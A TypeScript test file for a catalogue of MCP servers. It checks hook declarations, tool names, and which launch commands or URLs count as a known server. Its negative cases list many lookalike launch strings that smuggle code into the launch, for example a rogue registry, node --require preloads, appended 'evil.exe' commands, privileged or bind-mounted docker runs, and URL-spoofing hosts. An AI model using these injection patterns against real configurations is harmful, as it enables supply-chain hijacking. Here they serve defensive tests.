// The catalogue: its files, the servers that they match, and servers that only look similar.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { CLIENTS } from '../../src/clients/registry.ts';
import { doubts } from '../../src/compile/doubts.ts';
import { textFor } from '../../src/compile/own-server.ts';
import { checkManifest, readManifestText } from '../../src/declaration/manifest.ts';
import { RULES } from '../../src/declaration/policy.ts';
import {
  type CatalogueEntry,
  catalogue,
  cataloguedFor,
  catalogueEntryFor,
  catalogueSchema,
} from '../../src/sources/catalogue/catalogue.ts';
import { checkArguments } from '../../src/sources/protocol/tools.ts';
import { type RecordedTools, toolsNamed } from '../support/catalogue.ts';
import { shows } from '../support/pages.ts';

const ROOT = join(import.meta.dirname, '../..');
const entries = catalogue();
const named = entries.map((entry) => [entry.name, entry] as const);

test('there are at least forty, including memory servers and servers at an address', () => {
  const names = entries.map(({ name }) => name);
  expect(names.length).toBeGreaterThanOrEqual(40);
  expect(names).toEqual(
    expect.arrayContaining(['server-memory', 'basic-memory', 'mem0', 'serena', 'context7']),
  );
  expect(entries.filter(({ match }) => match.hosts).length).toBeGreaterThanOrEqual(10);
});

const recordedOf = (name: string): RecordedTools =>
  JSON.parse(readFileSync(join(ROOT, 'fixtures/catalogue', `${name}.json`), 'utf8'));

/** How the names of a server's tools were checked, in the words of the page. */
function checkedIn({ name, checked: { how, version } }: CatalogueEntry): string {
  if (how === 'run') return `a test asks ${version}`;
  const { source, standIn } = recordedOf(name);
  const [, commit = version] = /, (commit [\da-f]{7})$/.exec(version) ?? [];
  const at = `[${commit}](${source})`;
  if (how === 'asked')
    return `asked once, ${at}${standIn === undefined ? '' : `, with an empty library in place of ${standIn}`}`;
  return how === 'read' ? `source read, ${at}` : `source not public; page read, ${at}`;
}

test('the page for users has a row for each, with its use and what was checked', () => {
  const rows = entries.map(
    (entry) =>
      `| [\`${entry.name}\`](../catalogue/${entry.name}.json) | ${entry.server} | ${entry.why} | ${checkedIn(entry)} |\n`,
  );
  const head = '| file | server | what its hooks do for you | how its tools were checked |\n';
  shows('docs/sources.md', 'table: catalogue', `${head}|---|---|---|---|\n${rows.join('')}`);
});

describe.each(named)('%s', (_, entry) => {
  const { name, hooks, checked } = entry;
  const file = readFileSync(join(ROOT, 'catalogue', `${name}.json`), 'utf8');

  test('follows the schema', () => {
    const { success, error } = catalogueSchema().safeParse(JSON.parse(file));
    expect(success, JSON.stringify(error?.issues)).toBe(true);
  });

  test('has valid hooks without warnings', () => {
    const { hooks: found, problems } = checkManifest(
      readManifestText(JSON.stringify({ version: 2, hooks })),
      {
        source: { kind: 'manifest', path: name },
        ...{ at: [], label: name, name, doubts },
        serverStart: () => ({ server: { command: 'npx' } }),
      },
    );
    expect(problems).toEqual([]);
    // The hooks only add text, and none is shown with every prompt or call.
    for (const hook of found) {
      expect([hook.block, hook.command, hook.may]).toEqual([undefined, undefined, undefined]);
      expect(['session_start', 'post_tool_use']).toContain(hook.event);
      if (hook.event === 'post_tool_use') {
        expect(hook.matcher).toBeDefined();
        expect(hook.once ?? hook.cooldown).toBeDefined();
      }
    }
  });

  test('has short texts that every client shows in full', () => {
    for (const hook of hooks.declarations as readonly { context?: string }[])
      for (const client of CLIENTS) {
        const text = textFor(client, hook.context ?? '', name);
        expect(text).not.toContain('{server}');
        expect(text.length).toBeLessThan(Math.min(300, RULES.charactersPerHook));
        expect(text.match(/[.:] /g)?.length ?? 0).toBeLessThan(3);
      }
  });

  test('names only tools of the server', () => {
    const { tools, how, source } = recordedOf(name);
    expect(how).toBe(checked.how);
    // A server that is not from a registry was read at the commit that the catalogue names.
    const [, commit] = /, commit ([\da-f]{7})$/.exec(checked.version) ?? [];
    expect(commit !== undefined).toBe(how !== 'run');
    if (commit !== undefined)
      expect(source).toMatch(new RegExp(`/(?:blob|tree)/${commit}[\\da-f]{33}/`));
    for (const { name: tool, args } of toolsNamed(entry)) {
      const known = tools.find((one) => one.name === tool);
      expect(known, tool).toBeDefined();
      if (args) {
        expect(known?.inputSchema).toBeDefined();
        expect(checkArguments({ name: tool, inputSchema: known?.inputSchema }, args)).toEqual([]);
      }
    }
  });
});

describe('a command that its hooks wait for', () => {
  const waitsFor = (name: string, command: string) =>
    catalogue()
      .find((entry) => entry.name === name)
      ?.hooks.declarations.some(({ matcher }) => {
        const { tool_name, input_contains = '', input_matches = '' } = (matcher ?? {}) as Matcher;
        const fits = command.includes(input_contains) && new RegExp(input_matches).test(command);
        return tool_name === 'Bash' && fits;
      });

  test.each([
    ['atlassian', 'git checkout -b feature/SHOP-42-cart', 'git checkout -b utf-8'],
    ['atlassian', "git commit -am 'SHOP-42 Empty the cart'", "git commit -m 'Read UTF-8'"],
    ['atlassian', 'git commit -m "[SHOP-42] Empty it"', 'git log SHOP-42'],
    ['aws-documentation', 'aws s3 ls', 'ls ~/.aws '],
    ['aws-documentation', 'cd infra && cdk deploy', 'cat cdk.json'],
    ['cloudflare-observability', 'npx wrangler@4.1.0 deploy', 'wrangler dev'],
    ['kubernetes', 'kubectl apply -f app.yaml', 'kubectl get pods'],
    ['kubernetes', 'helm upgrade shop ./chart', 'helm list'],
    ['linear', 'git switch -c ann/eng-123-cart', 'git switch main'],
    ['microsoft-learn', 'az group list', 'ls az '],
    ['microsoft-learn', 'dotnet restore ', 'dotnet test '],
    ['shadcn', 'npx shadcn@latest add button', 'npx shadcn@latest mcp'],
    ['terraform', 'tofu plan', 'terraform fmt'],
  ])('%s: %s, but not %s', (name, command, other) => {
    expect([waitsFor(name, command), waitsFor(name, other)]).toEqual([true, false]);
  });
});

interface Matcher {
  readonly tool_name?: string;
  readonly input_contains?: string;
  readonly input_matches?: string;
}

const env = { PATH: '/usr/local/bin:/usr/bin:bin' };
const found = (line: string) => {
  const [command = '', ...args] = line.split(' ');
  const launch = /^https?:/.test(command) ? { url: command } : { command, args };
  return catalogueEntryFor(launch, env)?.name;
};

describe('a server is recognized by its command or address', () => {
  test.each([
    ['npx -y @modelcontextprotocol/server-memory', 'server-memory'],
    ['npx @modelcontextprotocol/server-memory@latest --x', 'server-memory'],
    ['npx -y @modelcontextprotocol/server-memory@2026.8.31', 'server-memory'],
    ['npx.cmd -y @modelcontextprotocol/server-memory', 'server-memory'],
    ['cmd /c npx -y @modelcontextprotocol/server-memory', 'server-memory'],
    ['/usr/local/bin/npx -y @modelcontextprotocol/server-memory', 'server-memory'],
    ['npx -y --package=@modelcontextprotocol/server-memory mcp-server-memory', 'server-memory'],
    ['npx -y -p @modelcontextprotocol/server-memory mcp-server-memory', 'server-memory'],
    ['npm exec -y @modelcontextprotocol/server-memory', 'server-memory'],
    ['bunx @modelcontextprotocol/server-memory', 'server-memory'],
    ['bun x @modelcontextprotocol/server-memory', 'server-memory'],
    ['pnpm dlx @modelcontextprotocol/server-memory', 'server-memory'],
    ['yarn dlx @modelcontextprotocol/server-memory', 'server-memory'],
    ['docker run -i --name=memory --rm --network host mcp/memory', 'server-memory'],
    ['npm exec -y @modelcontextprotocol/server-memory -- --registry=x', 'server-memory'],
    ['docker run -i --rm -e TOKEN docker.io/mcp/memory:latest', 'server-memory'],
    ['mcp-server-memory', 'server-memory'],
    ['npx -y @modelcontextprotocol/server-filesystem /srv', 'server-filesystem'],
    ['npx -y @upstash/context7-mcp --api-key x', 'context7'],
    ['https://mcp.context7.com/mcp', 'context7'],
    ['npx @playwright/mcp@latest --headless', 'playwright'],
    ['npx chrome-devtools-mcp@latest', 'chrome-devtools'],
    ['npx -y @notionhq/notion-mcp-server', 'notion'],
    ['https://api.githubcopilot.com/mcp/', 'github'],
    [
      'docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server',
      'github',
    ],
    ['github-mcp-server stdio', 'github'],
    ['npx -y @modelcontextprotocol/server-github', 'server-github'],
    [
      'uvx --from git+https://github.com/oraios/serena serena start-mcp-server --context ide',
      'serena',
    ],
    ['uvx -p 3.13 --from serena-agent@latest serena start-mcp-server', 'serena'],
    ['uvx basic-memory mcp', 'basic-memory'],
    ['uvx --python 3.12 basic-memory==0.15 mcp', 'basic-memory'],
    ['pipx run mcp-server-fetch', 'fetch'],
    ['uv tool run mcp-server-git --repository .', 'git'],
    ['uvx mcp_server_git', 'git'],
    ['uvx chroma-mcp --client-type persistent', 'chroma'],
    ['uvx mem0-mcp-server', 'mem0'],
    ['npx -y @sentry/mcp-server@latest --access-token=x', 'sentry'],
    ['https://mcp.sentry.dev/mcp', 'sentry'],
    ['uvx mcp-atlassian', 'atlassian'],
    ['docker run -i --rm -e JIRA_URL ghcr.io/sooperset/mcp-atlassian:latest', 'atlassian'],
    ['https://mcp.linear.app/mcp', 'linear'],
    ['npx -y @azure-devops/mcp contoso', 'azure-devops'],
    ['https://mcp.dev.azure.com/contoso', 'azure-devops'],
    ['npx -y @zereight/mcp-gitlab', 'gitlab'],
    ['docker run -i --rm -e GITLAB_PERSONAL_ACCESS_TOKEN zereight050/gitlab-mcp', 'gitlab'],
    ['npx -y @supabase/mcp-server-supabase@latest --read-only --project-ref=x', 'supabase'],
    ['https://mcp.supabase.com/mcp?project_ref=x', 'supabase'],
    ['uvx postgres-mcp --access-mode=restricted', 'postgres'],
    ['npx -y mongodb-mcp-server@latest --readOnly', 'mongodb'],
    ['docker run --rm -i -e MDB_MCP_CONNECTION_STRING mongodb/mongodb-mcp-server', 'mongodb'],
    ['npx -y airtable-mcp-server', 'airtable'],
    ['npx mcp-server-kubernetes', 'kubernetes'],
    ['docker run -i --rm hashicorp/terraform-mcp-server:1.2.0', 'terraform'],
    ['uvx awslabs.aws-documentation-mcp-server@latest', 'aws-documentation'],
    ['https://docs.mcp.cloudflare.com/mcp', 'cloudflare-docs'],
    ['https://bindings.mcp.cloudflare.com/sse', 'cloudflare-docs'],
    ['https://observability.mcp.cloudflare.com/mcp', 'cloudflare-observability'],
    ['npx -y firebase-tools@latest mcp', 'firebase'],
    ['npx shadcn@latest mcp', 'shadcn'],
    ['pnpm dlx shadcn@latest mcp', 'shadcn'],
    ['npm exec -y shadcn -- mcp', 'shadcn'],
    ['npx -y -p firebase-tools firebase mcp', 'firebase'],
    ['firebase mcp --dir .', 'firebase'],
    ['npx -y @sveltejs/mcp', 'svelte'],
    ['https://mcp.svelte.dev/mcp', 'svelte'],
    ['npx -y next-devtools-mcp@latest', 'next-devtools'],
    ['npx -y @eslint/mcp@latest', 'eslint'],
    ['npx -y figma-developer-mcp --figma-api-key=x --stdio', 'figma'],
    ['npx -y @wonderwhy-er/desktop-commander@latest', 'desktop-commander'],
    ['https://learn.microsoft.com/api/mcp', 'microsoft-learn'],
    ['npx -y @brave/brave-search-mcp-server --transport stdio', 'brave-search'],
    ['docker run -i --rm -e BRAVE_API_KEY docker.io/mcp/brave-search', 'brave-search'],
    ['npx -y tavily-mcp@latest', 'tavily'],
    ['https://mcp.tavily.com/mcp/?tavilyApiKey=x', 'tavily'],
    ['npx -y exa-mcp-server', 'exa'],
    ['https://mcp.exa.ai/mcp', 'exa'],
    ['npx -y @perplexity-ai/mcp-server', 'perplexity'],
  ])('%s', (line, name) => {
    expect(found(line)).toBe(name);
  });
});

describe('a server is not recognized by a similar command or address', () => {
  test.each([
    'npx -y @evil/server-memory',
    'npx -y @modelcontextprotocol/server-memory-evil',
    'npx -y @modelcontextprotocol/server-memory@npm:@evil/server-memory',
    'npx -y github:evil/server-memory',
    'npx -y https://evil.example/@modelcontextprotocol/server-memory',
    'npx -y ./@modelcontextprotocol/server-memory',
    'npx -y file:@modelcontextprotocol/server-memory',
    'npx -y -p @modelcontextprotocol/server-memory -p @evil/x mcp-server-memory',
    'npx -y -p @modelcontextprotocol/server-memory sh -c evil',
    'npx -y -p @evil/x @modelcontextprotocol/server-memory',
    'npx -c evil @modelcontextprotocol/server-memory',
    'npx --registry https://evil.example @modelcontextprotocol/server-memory',
    'npx --registry=https://evil.example @modelcontextprotocol/server-memory',
    'npx --prefix ./evil @modelcontextprotocol/server-memory',
    'npx --node-options=--require=./evil.js @modelcontextprotocol/server-memory',
    'npx -y --userconfig ./.npmrc @modelcontextprotocol/server-memory',
    './npx -y @modelcontextprotocol/server-memory',
    'bin/npx -y @modelcontextprotocol/server-memory',
    '/srv/clone/npx -y @modelcontextprotocol/server-memory',
    '/usr/local/bin/../../../srv/clone/npx -y @modelcontextprotocol/server-memory',
    'node /srv/clone/node_modules/@modelcontextprotocol/server-memory/dist/index.js',
    '/srv/clone/mcp-server-memory',
    './mcp-server-memory',
    'sh -c npx -y @modelcontextprotocol/server-memory',
    'cmd /c evil.exe npx -y @modelcontextprotocol/server-memory',
    'cmd /c npx -y @modelcontextprotocol/server-memory & evil.exe',
    'cmd /c npx -y @modelcontextprotocol/server-memory |evil.exe',
    'cmd /c npx -y @modelcontextprotocol/server-memory %EVIL%',
    'cmd /c github-mcp-server & evil.exe',
    'env A=1 npx -y @modelcontextprotocol/server-memory',
    'uvx --from git+https://github.com/evil/serena serena',
    'uvx --from git+https://github.com/oraios/serena@0123456789abcdef0123456789abcdef01234567 serena',
    'uvx --from git+https://github.com.evil.example/oraios/serena serena',
    'uvx --from git+https://github.com/oraios/serena evil',
    'uvx --index-url https://evil.example basic-memory mcp',
    'uvx --with evil basic-memory mcp',
    'uvx basic-memory@https://evil.example/x.whl mcp',
    'docker run -i --rm evil/memory',
    'docker run -i --rm evil.example/mcp/memory',
    'docker run -i --rm --entrypoint evil mcp/memory',
    'docker run -i --rm --privileged mcp/memory',
    'docker run -i --rm -v ./evil:/app/dist mcp/memory',
    'docker run -i --rm -v evil:/app/dist mcp/memory',
    'docker run -i --rm --volume=./evil:/app/dist mcp/memory',
    'docker run -i --rm --mount type=bind,src=./evil,dst=/app mcp/memory',
    'docker run -i --rm --volumes-from evil mcp/memory',
    'docker run -i --rm -e PYTHONPATH=/evil mcp/memory',
    'docker run -i --rm --env=NODE_OPTIONS=--require=/evil.js mcp/memory',
    'docker run -i --rm -eNODE_OPTIONS=--require=/evil.js mcp/memory',
    'docker run -i --rm --env LD_PRELOAD mcp/memory',
    'docker run -i --rm --env-file ./evil.env mcp/memory',
    'docker run -i --rm -w /evil mcp/memory',
    'docker run -i --rm -u root mcp/memory',
    'docker run -i --rm --add-host api.example:6.6.6.6 mcp/memory',
    'docker run -i --rm --network container:evil mcp/memory',
    'docker run -i --rm mcp/memory sh -c evil',
    'docker run -i --rm mcp/memory -e evil',
    'docker --context evil run -i mcp/memory',
    'docker --debug run -i mcp/memory',
    'uvx --python ./evilpy basic-memory mcp',
    'uvx --python=./evilpy basic-memory mcp',
    'uvx -p./evilpy basic-memory mcp',
    'uvx -p evilpy basic-memory mcp',
    'uvx --from ./basic-memory basic-memory mcp',
    'uvx --with ./x basic-memory mcp',
    'uvx --with-editable ./x basic-memory mcp',
    'uvx --env-file ./x basic-memory mcp',
    'uvx --directory ./x basic-memory mcp',
    'uvx --config-file ./uv.toml basic-memory mcp',
    'npx --node-options --require=./evil.js @modelcontextprotocol/server-memory',
    'npx --script-shell ./evil @modelcontextprotocol/server-memory',
    'npm exec @modelcontextprotocol/server-memory --registry=https://evil.example',
    'npm exec @modelcontextprotocol/server-memory --node-options=--require=./evil.js',
    'npm x @modelcontextprotocol/server-memory -c evil',
    'npm --yes exec @modelcontextprotocol/server-memory --node-options=--require=./evil.js',
    'docker -H tcp://evil.example run -i mcp/memory',
    'npx -y sentry-mcp-server',
    'npx -y @sentry/mcp-server-evil',
    'npx -y shadcn-ui mcp',
    'npx shadcn add mcp',
    'npx -y firebase-tools',
    'firebase --config evil mcp',
    'uvx --from evil mcp-atlassian',
    'docker run -i --rm evil/terraform-mcp-server',
    'https://mcp.linear.app.evil.example/mcp',
    'https://evil.mcp.cloudflare.com.evil.example/mcp',
    'https://radar.mcp.cloudflare.com/mcp',
    'https://microsoft.com/api/mcp',
    'http://mcp.context7.com/mcp',
    'https://mcp.context7.com.evil.example/mcp',
    'https://evil.example/mcp.context7.com',
    'https://mcp.context7.com@evil.example/mcp',
    'https://mcp.context7.com:8443/mcp',
  ])('%s', (line) => {
    expect(found(line)).toBeUndefined();
  });
});

describe('the offer of the catalogue', () => {
  const server = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] };
  const source = { kind: 'npm', spec: '@modelcontextprotocol/server-memory' } as const;
  const bare = { label: 'mem', hooks: [], problems: [], server, source };
  const own = { env, foreign: false };

  test("is under the user's label, and names its source", () => {
    const offered = cataloguedFor(bare, own);
    expect(offered?.label).toBe('mem');
    expect(offered?.source).toEqual({ kind: 'catalogue', name: 'server-memory', of: source });
    expect(offered?.server).toEqual(server);
  });

  test('is empty if the server declares anything, understood or not', () => {
    const hook = { event: 'session_start', context: 'x', priority: 'suggestion' } as const;
    const found = { transport: 'stdio', era: 'legacy', protocol: 'x', passedOver: [] } as const;
    for (const declares of [
      { hooks: [hook] },
      { unsupported: [{ event: 'newer', path: [] }] },
      { found: { ...found, key: 'capabilities.hooks' } },
    ])
      expect(cataloguedFor({ ...bare, ...declares }, own)).toBeUndefined();
    expect(cataloguedFor({ ...bare, found }, own)).toBeDefined();
  });

  test('is empty for a server that a clone starts with variables that decide what runs', () => {
    const steering = { PATH: './evil' };
    const configured = { steering, given: { variables: [] }, entry: {} };
    const steered = { ...bare, server: { ...server, configured } } as unknown as typeof bare;
    expect(cataloguedFor(steered, { env, foreign: true })).toBeUndefined();
    expect(cataloguedFor(steered, own)).toBeDefined();
    expect(cataloguedFor(bare, { env, foreign: true })).toBeDefined();
    for (const more of [
      { cwd: './evil' },
      { configured: { ...configured, steering: {}, envFile: '.env' } },
    ]) {
      const elsewhere = { ...bare, server: { ...server, ...more } } as unknown as typeof bare;
      expect(cataloguedFor(elsewhere, { env, foreign: true })).toBeUndefined();
    }
  });
});
